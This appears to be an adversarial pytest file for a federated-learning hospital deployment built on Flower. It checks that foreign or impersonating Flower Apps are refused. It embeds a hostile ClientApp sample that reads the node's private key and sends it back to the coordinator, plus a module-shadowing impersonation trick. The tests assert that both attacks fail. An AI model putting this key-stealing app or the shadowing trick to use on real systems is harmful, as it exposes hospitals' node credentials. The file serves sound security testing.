"""A stranger holding only the consortium's ``ca.pem`` submits its own Flower App to the
coordinator's SuperLink: its ClientApp would read the hospital's node private key and send it.

The hospital runs only the ClientApp of the medfed installed at the hospital, never code from
a FAB (``client.task_guard``). Two hostile FABs, both real ``.fab`` archives built by Flower:

* ``mallory/evil-app``: its own ClientApp. The run policy does not list the app: every message
  gets an audited refusal naming ``allowed_apps``.
* an impersonation: it claims to be ``medfed/medfed-app==1.0.0`` (the name the policy allows)
  and ships its own ``client/app.py``, the module name of medfed's ClientApp, which Flower would
  import from the FAB folder (first on ``sys.path``). The hospital runs its installed
  ``client.app`` instead; that app's run policy refuses the message the attacker sends.

Either way the malicious modules would create a marker file the moment they are imported;
the marker never appears. The control shows the same FAB does run its code under Flower's
own loader. The slow test runs the attack end to end: a real SuperLink (TLS, node
authentication) on loopback, ``flwr run`` with the attacker's app, and the hospital started by
``medfed hospital start`` (warm and subprocess executors).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
import tomli_w
from helpers import wait_for

from client.audit import read_audit_log

EVIL_CLIENT = '''\
"""Mallory's ClientApp: imported, it marks the disk; run, it steals the node key."""
from pathlib import Path

import os

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

with open({marker!r}, "a") as out:  # which process: its Flower home tells
    out.write(f"imported {{os.environ.get('FLWR_HOME')}}\\n")
app = ClientApp()


@app.train()
def train(msg, context):
    key = Path(str(context.node_config["run-policy"])).with_name("node.key").read_text()
    with open({marker!r}, "a") as out:
        out.write(f"ran {{os.environ.get('FLWR_HOME')}}\\n")
    return Message(RecordDict({{"loot": ConfigRecord({{"node-key": key}})}}), reply_to=msg)
'''

EVIL_SERVER = '''\
"""Mallory's ServerApp: asks every node to train and writes down what came back."""
import json
import time
from pathlib import Path

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.serverapp import ServerApp

app = ServerApp()


@app.main()
def main(grid, context):
    nodes, end = [], time.monotonic() + 300
    while not nodes and time.monotonic() < end:
        nodes = list(grid.get_node_ids())
        time.sleep(0.5)
    messages = [Message(RecordDict({{"config": ConfigRecord({{"steal": "node.key"}})}}),
                        dst_node_id=node, message_type="train") for node in nodes]
    replies = list(grid.send_and_receive(messages, timeout=600))
    Path({report!r}).write_text(json.dumps([
        {{"error": r.error.reason if r.has_error() else None,
          "records": [] if r.has_error() else sorted(r.content.keys())}} for r in replies]))
'''


def write_evil_app(folder: Path, marker: Path, report: Path, impersonate: bool) -> Path:
    """Mallory's Flower App folder (``flwr build``/``flwr run`` it)."""
    folder.mkdir(parents=True)
    package = folder / "evil"
    package.mkdir()
    (package / "__init__.py").write_text("")
    (package / "server_app.py").write_text(EVIL_SERVER.format(report=str(report)))
    client_ref = "evil.client_app:app"
    (package / "client_app.py").write_text(EVIL_CLIENT.format(marker=str(marker)))
    if impersonate:  # shadows the installed medfed's module name
        shadow = folder / "client"
        shadow.mkdir()
        (shadow / "__init__.py").write_text(
            "import os\n"
            f"open({str(marker)!r}, 'a').write(f\"imported {{os.environ.get('FLWR_HOME')}}\\n\")\n")
        (shadow / "app.py").write_text(EVIL_CLIENT.format(marker=str(marker)))
        client_ref = "client.app:app"
    name, publisher = ("medfed-app", "medfed") if impersonate else ("evil-app", "mallory")
    (folder / "pyproject.toml").write_text(tomli_w.dumps({
        "build-system": {"requires": ["hatchling"], "build-backend": "hatchling.build"},
        "project": {"name": name, "version": "1.0.0", "description": "not medfed",
                    "license": "Apache-2.0", "dependencies": []},
        "tool": {"flwr": {"app": {"publisher": publisher, "components": {
            "serverapp": "evil.server_app:app", "clientapp": client_ref}}}},
    }))
    return folder


def _policy(folder: Path, stand_in_key: bool = True) -> Path:
    path = folder / "run-policy.toml"
    path.write_text('allowed_apps = ["medfed/medfed-app==1.0.0"]\n'
                    'allowed_backbones = ["efficientnet-lite0-imagenet"]\n'
                    'allowed_tasks = ["pneumonia-cxr"]\n')
    if stand_in_key:
        (folder / "node.key").write_text("-----BEGIN OPENSSH PRIVATE KEY----- (the secret)\n")
    return path


LOADER = textwrap.dedent('''\
    import hashlib, json, sys
    from pathlib import Path
    from flwr.app import Context, Message, RecordDict, ConfigRecord
    from flwr.common.config import get_fab_config, get_metadata_from_config
    from flwr.supercore.fab import Fab
    from flwr.supercore.run import Run
    fab_bytes = Path(sys.argv[1]).read_bytes()
    fab_id, version = get_metadata_from_config(get_fab_config(fab_bytes))
    fab = Fab(hashlib.sha256(fab_bytes).hexdigest(), fab_bytes, {})
    context = Context(run_id=4, node_id=5, state=RecordDict(), run_config={},
                      node_config={"run-policy": sys.argv[2], "audit-log": sys.argv[3]})
    import flwr.supernode.runtime.run_clientapp as runtime
    if sys.argv[4] == "guarded":
        from client.task_guard import _task, guard_flower_runtime
        guard_flower_runtime()
        _task.update(fab=fab, context=context)
    # The two steps of Flower's ClientApp process that touch the FAB, as it calls them.
    runtime.install_from_fab(fab.content, skip_prompt=True)
    app = runtime.get_load_client_app_fn(default_app_ref="", app_path=None, multi_app=True)(
        fab_id, version, fab.hash_str)
    from flwr.app.message.message import make_message
    from flwr.app.metadata import Metadata
    message = make_message(Metadata(
        run_id=4, message_id="m1", src_node_id=0, dst_node_id=5, reply_to_message_id="",
        group_id="1", created_at=0.0, ttl=600.0, message_type="train"),
        RecordDict({"config": ConfigRecord({"steal": "node.key"})}))
    reply = app(message, context)
    print(json.dumps({"module": type(app).__module__, "error": reply.error.reason
                      if reply.has_error() else None,
                      "records": [] if reply.has_error() else sorted(reply.content.keys())}))
''')


@pytest.mark.parametrize("impersonate", [False, True])
def test_a_real_fab_on_disk_never_runs_at_the_hospital(tmp_path, impersonate):
    """Flower's FAB install and ClientApp loading, with and without the hospital's guard,
    each in a fresh process (as a task is) with its own FLWR_HOME."""
    from flwr.cli.build import build_fab_from_disk

    marker, report = tmp_path / "pwned", tmp_path / "report.json"
    app_dir = write_evil_app(tmp_path / "evil-app", marker, report, impersonate)
    fab = tmp_path / "evil.fab"
    fab.write_bytes(build_fab_from_disk(app_dir))
    site = tmp_path / "site"
    site.mkdir()
    policy = _policy(site)
    audit = site / "audit.jsonl"
    repo = Path(__file__).resolve().parents[2]

    def load(mode: str) -> dict:
        home = tmp_path / f"flwr-home-{mode}"
        done = subprocess.run(
            [sys.executable, "-c", LOADER, str(fab), str(policy), str(audit), mode],
            capture_output=True, text=True, timeout=300, cwd=tmp_path,
            env=os.environ | {"FLWR_HOME": str(home), "PYTHONPATH": str(repo)})
        assert done.returncode == 0, done.stderr[-3000:]
        return json.loads(done.stdout.strip().splitlines()[-1])

    guarded = load("guarded")
    assert not marker.exists()  # nothing of the FAB was imported
    assert not (tmp_path / "flwr-home-guarded" / "apps").exists()  # nor even unpacked
    assert guarded["records"] == []
    if impersonate:
        # The allowed name gets the installed medfed ClientApp, which refuses the attacker's
        # message (its config is no round config: refused before the run policy is even
        # asked); the FAB's own client/app.py never ran.
        assert guarded["module"] == "client.audit"  # medfed's AuditedClientApp
        assert guarded["error"].startswith("round-config: the round config lacks")
    else:
        assert guarded["module"] == "client.task_guard"
        assert "run policy 'allowed_apps'" in guarded["error"]
    (entry,) = read_audit_log(audit)
    assert entry["error"]["reason"] == guarded["error"] and entry["tensors"] == []

    # The control: Flower's own loader imports and runs the FAB's ClientApp.
    unguarded = load("flower")
    assert [line.split()[0] for line in marker.read_text().splitlines()][-2:] == [
        "imported", "ran"]
    assert unguarded["records"] == ["loot"]


@pytest.mark.slow
@pytest.mark.parametrize("executor", ["warm", "subprocess"])
def test_flwr_run_of_a_foreign_app_never_runs_its_code_at_the_hospital(tmp_path, executor):
    from client.site_folder import init_site_folder, load_hospital_config
    from server.consortium import enrol, init_consortium
    from server.daemon import (
        daemon_env,
        flwr_cli_home,
        run_flwr,
        superlink_command,
        sync_registry,
        wait_listening,
    )
    from simulations.processes import free_port

    port, admin_port = free_port(), free_port()
    consortium = tmp_path / "consortium"
    init_consortium(consortium, "loopback", host="127.0.0.1", port=port, admin_port=admin_port)
    site = tmp_path / "hospital"
    init_site_folder(site, "hospital-0", superlink=f"localhost:{port}")
    shutil.copy(consortium / "ca" / "ca.pem", site / "ca.pem")
    _policy(site, stand_in_key=False)  # the real key pair stays
    hospital = load_hospital_config(site).__dict__ | {
        "privacy_policy": "", "runtime_port": free_port(), "cpu_threads": 1,
        "clientapp_executor": executor}
    (site / "hospital.toml").write_text(tomli_w.dumps({"hospital": hospital}))
    enrol(consortium, "hospital-0", site / "node.pub")
    logs = {name: tmp_path / f"{name}.log" for name in ("superlink", "hospital")}
    procs: list[subprocess.Popen] = []

    def start(name: str, argv: list[str], env: dict) -> subprocess.Popen:
        with open(logs[name], "w") as out:  # a file: the daemons' helpers inherit it
            proc = subprocess.Popen(argv, stdout=out, stderr=subprocess.STDOUT, env=env,
                                    cwd=tmp_path, start_new_session=True)
        procs.append(proc)
        return proc

    try:
        argv = superlink_command(consortium)
        link = start("superlink", argv, daemon_env(flwr_cli_home(consortium), argv[0]))
        wait_listening("127.0.0.1", port, link, 120)
        assert not [line for line in sync_registry(consortium, run_flwr)
                    if line.startswith("error")]
        daemon = start("hospital", [sys.executable, "-m", "medfed_cli.main", "hospital",
                                    "start", "--dir", str(site)],
                       dict(os.environ, PYTHONUNBUFFERED="1"))
        wait_for(lambda: daemon.poll() is not None or "Activated node_id" in
                 logs["superlink"].read_text(errors="replace"), "the hospital to connect",
                 300, log=list(logs.values()))
        assert daemon.poll() is None, logs["hospital"].read_text()

        # The attacker holds the coordinator itself: the Control API answers on loopback only
        # (tests/adversarial/test_attack_admin_surface.py), so a stranger with ca.pem cannot
        # submit at all; a hostile coordinator can, and the hospital must still refuse.
        attacker_home = tmp_path / "mallory-home"
        attacker_home.mkdir()
        (attacker_home / "config.toml").write_text(tomli_w.dumps({"superlink": {
            "default": "target", "target": {"address": f"127.0.0.1:{admin_port}",
                                            "root-certificates": str(site / "ca.pem")}}}))
        audit = site / "egress-audit.jsonl"
        # Impersonating the allowed app name gets the installed ClientApp, which refuses the
        # attacker's message (no round config) before its run policy is even asked.
        for n, (impersonate, refusal) in enumerate([
                (False, "run policy 'allowed_apps'"),
                (True, "round-config: the round config lacks")]):
            marker, report = tmp_path / f"pwned-{n}", tmp_path / f"report-{n}.json"
            app_dir = write_evil_app(tmp_path / f"evil-{n}", marker, report, impersonate)
            submitted = subprocess.run(
                [str(Path(sys.executable).parent / "flwr"), "run", str(app_dir), "target"],
                env=os.environ | {"FLWR_HOME": str(attacker_home)}, capture_output=True,
                text=True, timeout=300, cwd=tmp_path)
            assert submitted.returncode == 0, submitted.stdout + submitted.stderr
            wait_for(lambda n=n: audit.exists() and len(read_audit_log(audit)) > n,
                     f"the hospital's answer to attack {n}", 600,
                     log=[*logs.values(), report])
            entry = read_audit_log(audit)[n]
            assert refusal in entry["error"]["reason"], entry
            assert entry["tensors"] == [] and entry["configs"] == {}
            wait_for(report.exists, "the attacker's report", 300, log=list(logs.values()))
            (reply,) = json.loads(report.read_text())
            assert refusal in reply["error"] and reply["records"] == []
            # The attacker's own tools and the coordinator may import it (Flower checks a
            # FAB's components when it is submitted); the hospital never does.
            seen = marker.read_text().splitlines() if marker.exists() else []
            assert not [line for line in seen if str(site) in line], seen
        # Nothing of either FAB was unpacked at the hospital.
        assert not list(site.rglob("client_app.py")) and not list(site.rglob("server_app.py"))
    finally:
        for proc in reversed(procs):
            try:
                os.killpg(proc.pid, 15)
                proc.wait(timeout=30)
            except (ProcessLookupError, subprocess.TimeoutExpired):
                try:
                    os.killpg(proc.pid, 9)
                except ProcessLookupError:
                    pass
